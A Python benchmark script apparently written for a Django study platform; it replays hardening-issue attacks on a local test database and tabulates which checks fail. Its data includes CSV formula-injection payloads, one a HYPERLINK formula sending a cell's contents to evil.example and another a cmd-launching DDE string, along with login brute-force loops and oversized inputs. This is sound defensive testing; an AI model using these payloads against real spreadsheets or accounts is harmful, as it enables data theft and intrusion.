"""Replay the attacks and bad inputs of the hardening issue (#10) and count what fails.

Runs against whatever code is importable (this checkout, or an older one on PYTHONPATH), on
a fresh SQLite database in a temporary folder, through Django's test client (so a crash is
counted as the 500 a browser would get). Every case is a yes/no "did it fail?"; the result is
a table per category, written as JSON.

    python benchmarks/hardening_probe.py [--out benchmarks/results/hardening_probe.json]

Enrolment is measured in the documented setting: the study has its Prolific study ID set
where the code supports it, and the attacker knows it (the worst case).
"""

from __future__ import annotations

import argparse
import io
import json
import os
import subprocess
import sys
import tempfile
from collections import defaultdict
from datetime import timedelta
from pathlib import Path

CODE = Path(os.environ.get("PROBE_CODE_DIR", Path(__file__).resolve().parent.parent))
sys.path.insert(0, str(CODE))
PROLIFIC_STUDY = "64f0c0ffee0000000000beef"
ATTACKS = ['=HYPERLINK("http://evil.example/?x="&A1,"a")', "+cmd|' /C calc'!A0", "-2+3", "=cmd"]

results: dict[str, list[tuple[str, bool]]] = defaultdict(list)


def case(category: str, name: str, failed: bool) -> None:
    results[category].append((name, bool(failed)))


def setup_django(var: str) -> None:
    os.environ.update(
        INTRUDER_VAR_DIR=var, DJANGO_SETTINGS_MODULE="intruder.settings", DJANGO_DEBUG="0"
    )
    os.environ.pop("DATABASE_URL", None)
    import warnings

    import django

    warnings.filterwarnings("ignore")
    django.setup()
    from django.core.management import call_command

    call_command("migrate", verbosity=0)


def client(addr: str = "127.0.0.1"):
    from django.test import Client

    return Client(REMOTE_ADDR=addr, raise_request_exception=False)


def walk(c, slug: str, pid: str, study_id: str = PROLIFIC_STUDY):
    from django.urls import reverse

    r = c.get(f"/s/{slug}/?PROLIFIC_PID={pid}&STUDY_ID={study_id}&SESSION_ID=s")
    if r.status_code != 302:
        return r
    token = r.url.rstrip("/").rsplit("/", 1)[-1]
    c.post(reverse("participant-consent", kwargs={"token": token}), {"decision": "agree"})
    c.post(reverse("participant-instructions", kwargs={"token": token}))
    return c.get(reverse("participant-home", kwargs={"token": token}))


def has_field(model, name: str) -> bool:
    return any(f.name == name for f in model._meta.get_fields())


def probe_enrolment() -> None:
    from django.utils import timezone

    from intruder.models import Assignment, Study
    from tests.intruder.factories import make_study, make_texts

    def small(**extra):
        if has_field(Study, "prolific_study_id"):
            extra["prolific_study_id"] = PROLIFIC_STUDY
        s = make_study(kind="intruder", items_per_participant=1, judgments_per_text=1, **extra)
        make_texts(study=s, count=3, group="famous")
        return s

    def real_gets_text(s) -> bool:
        r = walk(client("198.51.100.7"), s.slug, f"REAL{s.pk}")
        return r.status_code == 200 and "judge-form" in r.content.decode()

    s = small()
    for i in range(8):
        walk(client("203.0.113.66"), s.slug, f"FAKE{s.pk}X{i}")
    case(
        "1 open enrolment",
        "8 made-up PIDs (one address, right STUDY_ID): real participant kept out at once",
        not real_gets_text(s),
    )
    Assignment.objects.filter(participant__study=s).update(
        assigned_at=timezone.now() - timedelta(minutes=11)
    )
    case(
        "1 open enrolment",
        "... still kept out 11 minutes later (time limit 60)",
        not real_gets_text(s),
    )
    s = small()
    for i in range(8):
        walk(client(f"10.1.0.{i + 1}"), s.slug, f"FK{s.pk}X{i}", study_id="madeup")
    case(
        "1 open enrolment",
        "8 made-up PIDs with a made-up STUDY_ID: real participant kept out",
        not real_gets_text(s),
    )
    s = make_study(kind="intruder", items_per_participant=1, judgments_per_text=3)
    make_texts(study=s, count=14, group="famous")  # 42 slots: room for every made-up PID
    for i in range(30):
        walk(client("203.0.113.67"), s.slug, f"F{s.pk}X{i}", study_id="x")
    case(
        "1 open enrolment",
        "one address enrols 30 made-up PIDs (nothing limits it)",
        Study.objects.get(pk=s.pk).participants.count() >= 30,
    )


def probe_linked() -> None:
    from intruder.models import Study
    from tests.intruder.factories import make_study, make_target, make_texts

    writers = make_study(kind="collection")
    target = make_target(study=writers, name="Ottilie Brandvold", group="fictitious")
    intruders = make_study(kind="intruder", is_open=False)
    texts = make_texts(study=intruders, count=2)
    texts[0].description.target.name = target.name
    texts[0].description.target.save()
    Study.objects.filter(pk=intruders.pk).update(is_open=True)  # both open, as reported
    walk(client(), writers.slug, "WRITER01", study_id="x")  # sees a target's name and profile
    r = walk(client(), intruders.slug, "WRITER01", study_id="x")
    case(
        "2 writer study leaks targets",
        "the writer's PID is admitted to the intruder study",
        r.status_code == 200,
    )
    r = walk(client(), intruders.slug, "NEWPID01", study_id="x")
    case(
        "2 writer study leaks targets",
        "new intruders admitted while the linked writer study is open",
        r.status_code == 200,
    )
    Study.objects.filter(pk=writers.pk).update(is_open=False)
    c = client()
    c.force_login(intruders.owner)
    form = {
        "title": writers.title, "kind": "collection", "items_per_participant": 10,
        "judgments_per_text": 3, "min_description_chars": 500, "completion_code": "C",
        "time_limit_minutes": 60, "identification_threshold": 0.75, "is_open": "on",
    }  # fmt: skip
    Study.objects.filter(pk=writers.pk).update(owner=intruders.owner)
    c.post(f"/r/{writers.slug}/edit/", form)
    case(
        "2 writer study leaks targets",
        "researcher can open the writer study while the linked intruder study is open",
        Study.objects.get(pk=writers.pk).is_open,
    )


def probe_withdrawal() -> None:
    from django.urls import reverse
    from django.utils import timezone

    from intruder.models import AnonymizedText, Judgment
    from tests.intruder.factories import make_participant, make_study, make_texts

    study = make_study(kind="intruder", items_per_participant=2)
    make_texts(study=study, count=2)
    p = make_participant(
        study=study,
        group="fictitious",
        consented_at=timezone.now(),
        instructions_seen_at=timezone.now(),
    )
    c = client()
    home = reverse("participant-home", kwargs={"token": p.token})
    c.get(home)
    held = p.assignments.get(status="active")
    researcher = client()
    researcher.force_login(study.owner)
    researcher.post(
        reverse("researcher-review-text", kwargs={"slug": study.slug, "pk": held.text_id}),
        {"action": "withdraw", "revision": held.text.revision},
    )
    withdrawn = AnonymizedText.objects.get(pk=held.text_id)
    assert withdrawn.status == "withdrawn"
    c.get(home)
    case(
        "3 withdrawal",
        "holder still shown the withdrawn text",
        p.assignments.filter(status="active", text=withdrawn).exists(),
    )
    c.post(
        reverse("participant-judge", kwargs={"token": p.token}),
        {"assignment_id": held.pk, "self_identified": "no", "other_knowledge": "x"},
    )
    case(
        "3 withdrawal",
        "judgment of the withdrawn text stored",
        Judgment.objects.filter(text=withdrawn).exists(),
    )


def probe_exports() -> None:
    from intruder.services.exports import render_table
    from tests.intruder.factories import (
        make_description,
        make_judgment,
        make_participant,
        make_study,
        make_target,
        make_text,
    )  # fmt: skip

    study = make_study()
    target = make_target(study=study, group="famous")
    for i, attack in enumerate(ATTACKS):
        text = make_text(
            study=study,
            description=make_description(
                study=study, target=target, text=attack, external_id=f"e{i}"
            ),
        )
        p = make_participant(study=study, group="famous")
        make_judgment(
            participant=p,
            text=text,
            self_identified=True,
            guessed_name=attack,
            revealing_text=attack,
        )
    import csv

    for table in ("judgments", "descriptions"):
        rows = list(csv.DictReader(io.StringIO(render_table(study, table, "csv"), newline="")))
        cells = [v for row in rows for v in row.values() if v]
        for attack in ATTACKS:
            case(
                "4 CSV formula injection",
                f"{table}: {attack[:12]}... reaches a cell as a formula",
                attack in cells,
            )
        jsonl = render_table(study, table, "jsonl")
        case(
            "4 CSV formula injection",
            f"{table} JSONL not byte-exact",
            any(json.dumps(a, ensure_ascii=False) not in jsonl for a in ATTACKS),
        )


def probe_bounds() -> None:
    from django.db import IntegrityError, transaction
    from rest_framework.authtoken.models import Token
    from rest_framework.test import APIClient

    from intruder.models import Study
    from tests.intruder.factories import make_study, make_user

    bad = [("judgments_per_text", 99999999999), ("time_limit_minutes", 99999999999999),
           ("time_limit_minutes", 0), ("items_per_participant", 100000)]  # fmt: skip
    user = make_user()
    c = client()
    c.force_login(user)
    api = APIClient(raise_request_exception=False)
    api.credentials(HTTP_AUTHORIZATION=f"Token {Token.objects.create(user=user).key}")
    base = {
        "title": "B", "kind": "intruder", "items_per_participant": 10, "judgments_per_text": 3,
        "min_description_chars": 500, "completion_code": "C", "time_limit_minutes": 60,
        "identification_threshold": 0.75,
    }  # fmt: skip
    for i, (field, value) in enumerate(bad):
        c.post("/r/new/", {**base, "slug": f"form-{i}", field: value})
        case(
            "6 study settings without bounds",
            f"form accepts {field}={value}",
            Study.objects.filter(slug=f"form-{i}").exists(),
        )
        r = api.post(
            "/api/studies/create/", {**base, "slug": f"api-{i}", field: value}, format="json"
        )
        case(
            "6 study settings without bounds",
            f"API accepts {field}={value}",
            r.status_code == 201 or r.status_code >= 500,
        )
        study = make_study()
        try:
            with transaction.atomic():
                Study.objects.filter(pk=study.pk).update(**{field: value})
            stored = True
        except (IntegrityError, OverflowError, Exception):
            stored = False
        case("6 study settings without bounds", f"database stores {field}={value}", stored)


def probe_deploy() -> None:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("DJANGO_", "INTRUDER_"))}
    env |= {
        "PYTHONPATH": str(CODE), "INTRUDER_VAR_DIR": tempfile.mkdtemp(),
        "DJANGO_SECRET_KEY": "p" + os.urandom(24).hex(), "DJANGO_ALLOWED_HOSTS": "s.example.org",
        "DJANGO_SECURE_SSL_REDIRECT": "1", "DJANGO_SECURE_HSTS_SECONDS": "31536000",
        "DJANGO_SECURE_HSTS_INCLUDE_SUBDOMAINS": "1", "DJANGO_SECURE_HSTS_PRELOAD": "1",
        "DJANGO_SECURE_COOKIES": "1", "DJANGO_SECURE_PROXY_SSL_HEADER": "HTTP_X_FORWARDED_PROTO",
        "DJANGO_CSRF_TRUSTED_ORIGINS": "https://s.example.org",
    }  # fmt: skip
    checked = subprocess.run([sys.executable, "manage.py", "check", "--deploy"], cwd=CODE,
                             env=env, capture_output=True, text=True)  # fmt: skip
    out = checked.stdout + checked.stderr
    for check in ("W004", "W008", "W012", "W016"):
        case(
            "7 production settings",
            f"check --deploy still warns security.{check}",
            f"security.{check}" in out,
        )
    pub = {k: v for k, v in env.items() if k != "DJANGO_SECRET_KEY"}
    started = subprocess.run([sys.executable, "-c", "import intruder.wsgi"], cwd=CODE, env=pub,
                             capture_output=True, text=True)  # fmt: skip
    case(
        "7 production settings",
        "server starts on the public SECRET_KEY with DEBUG off",
        started.returncode == 0,
    )
    from django.test import Client

    from tests.intruder.factories import make_user

    c = Client()
    c.force_login(make_user())
    case(
        "7 production settings",
        "no Content-Security-Policy header",
        "Content-Security-Policy" not in c.get("/r/"),
    )


def probe_bruteforce() -> None:
    from rest_framework.test import APIClient

    from tests.intruder.factories import make_user

    make_user(username="victim", password="right-password-9")
    c = client("203.0.113.5")
    for i in range(30):
        c.post("/accounts/login/", {"username": "victim", "password": f"guess{i}"})
    ok = c.post("/accounts/login/", {"username": "victim", "password": "right-password-9"})
    case("8 brute force", "30 wrong passwords, then the right one logs in", ok.status_code == 302)
    api = APIClient(REMOTE_ADDR="203.0.113.6", raise_request_exception=False)
    codes = [api.post("/api/auth/token/", {"username": "victim", "password": f"g{i}"})
             .status_code for i in range(30)]  # fmt: skip
    case("8 brute force", "30 token guesses, none throttled", 429 not in codes)
    make_user(username="researcher", password="intruder-demo")
    demo = client().post("/accounts/login/", {"username": "researcher",
                                              "password": "intruder-demo"})  # fmt: skip
    case("8 brute force", "demo password logs in outside the demo", demo.status_code == 302)


def probe_imports() -> None:
    from tests.intruder.factories import make_study

    study = make_study()
    c = client()
    c.force_login(study.owner)
    upload = io.BytesIO('{"name": "李白", "group": "famous"}'.encode())
    upload.name = "f.jsonl"
    r = c.post(f"/r/{study.slug}/import/", {"file": upload})
    case("9 import files", "non-Latin name, no key: 500", r.status_code >= 500)
    files = {
        "a name with no letters, no key": '{"name": "😀", "group": "famous"}',
        "name over 200 characters": json.dumps({"name": "N" * 300, "group": "famous"}),
        "URL over 200 characters": json.dumps(
            {"name": "A", "group": "semifamous", "wikipedia_url": "https://x.org/" + "a" * 300}
        ),
        "CSV field over 131,072 characters": None,
        "5000-digit number": '{"name": "A", "group": "famous", "profile": {"a": '
        + "9" * 5000
        + "}}",
        "100,000-deep nesting": '{"name": "A", "x": ' + "[" * 100000 + "]" * 100000 + "}",
        "NaN": '{"name": "A", "group": "famous", "profile": {"a": NaN}}',
        "NUL character": json.dumps({"name": "A\u0000B", "group": "famous"}),
    }
    for name, content in files.items():
        if content is None:
            upload = io.BytesIO(('name,group\n"' + "x" * 140000 + '",famous\n').encode())
            upload.name = "big.csv"
        else:
            upload = io.BytesIO(content.encode())
            upload.name = "f.jsonl"
        r = c.post(f"/r/{study.slug}/import/", {"file": upload})
        body = r.content.decode(errors="replace")
        case(
            "9 import files",
            f"{name}: 500 or no line/field error",
            r.status_code >= 500 or (r.status_code != 400 and "line" not in body),
        )


def probe_api_overflow() -> None:
    from rest_framework.authtoken.models import Token
    from rest_framework.test import APIClient

    from tests.intruder.factories import make_user

    api = APIClient(raise_request_exception=False)
    api.credentials(HTTP_AUTHORIZATION=f"Token {Token.objects.create(user=make_user()).key}")
    for endpoint in ("targets", "descriptions", "anonymized-texts", "participants",
                     "judgments", "jobs"):  # fmt: skip
        r = api.get(f"/api/{endpoint}/?study=9223372036854775808")
        case(
            "10 API integer filters",
            f"/api/{endpoint}/?study=2**63 answers 500",
            r.status_code >= 500,
        )
    r = api.get("/api/studies/9223372036854775808/")
    case("10 API integer filters", "/api/studies/2**63/ answers 500", r.status_code >= 500)


def probe_review_page() -> None:
    from tests.intruder.factories import make_study, make_text

    study = make_study()
    make_text(study=study)
    c = client()
    c.force_login(study.owner)
    for page in ("²", "9" * 5000, "9" * 30):
        r = c.get(f"/r/{study.slug}/review/", {"page": page})
        case(
            "11 review page",
            f"?page={page[:6]}{'...' if len(page) > 6 else ''} answers 500",
            r.status_code >= 500,
        )


def probe_nul_writer() -> None:
    from django.urls import reverse

    from intruder.models import Description
    from intruder.services.participants import participant_consent_give
    from tests.intruder.factories import make_participant, make_study, make_target

    study = make_study(kind="collection", min_description_chars=10)
    make_target(study=study, group="famous")
    writer = make_participant(study=study)
    participant_consent_give(participant=writer)
    c = client()
    r = c.post(reverse("participant-write", kwargs={"token": writer.token}),
               {"position": 1, "text": "Long enough text\x00 here."})  # fmt: skip
    page = (c.get(r.url) if r.status_code == 302 else r).content.decode(errors="ignore")
    stored = Description.objects.filter(writer=writer).exists()
    said = "NUL" in page or "Null characters" in page
    silent = not stored and not (said and "Long enough text here." in page)
    case("12 NUL in a writer's text", "text lost without a word", silent)


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--out", type=Path, default=None)
    parser.add_argument("--label", default=str(CODE))
    args = parser.parse_args(argv)
    setup_django(tempfile.mkdtemp(prefix="intruder-probe-"))
    from django.conf import settings

    for name in ("INTRUDER_DEMO",):  # the probe plays production, not the demo
        if hasattr(settings, name):
            setattr(settings, name, False)
    probes = [probe_enrolment, probe_linked, probe_withdrawal, probe_exports, probe_bounds,
              probe_deploy, probe_bruteforce, probe_imports, probe_api_overflow,
              probe_review_page, probe_nul_writer]  # fmt: skip
    for probe in probes:
        try:
            probe()
        except Exception as error:  # a probe that cannot run on this code is reported
            case(probe.__name__, f"probe crashed: {type(error).__name__}: {error}"[:200], True)
    table = {
        category: {
            "tried": len(cases),
            "failed": sum(failed for _, failed in cases),
            "cases": [{"case": n, "failed": f} for n, f in cases],
        }
        for category, cases in sorted(results.items(), key=lambda kv: int(kv[0].split()[0]))
        if category[0].isdigit()
    } | {k: v for k, v in results.items() if not k[0].isdigit()}
    for category, row in table.items():
        if isinstance(row, dict):
            print(f"{category:40s} tried {row['tried']:3d}  failed {row['failed']:3d}")
        else:
            print(category, row)
    if args.out:
        args.out.parent.mkdir(parents=True, exist_ok=True)
        args.out.write_text(json.dumps({"code": args.label, "categories": table}, indent=2) + "\n")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
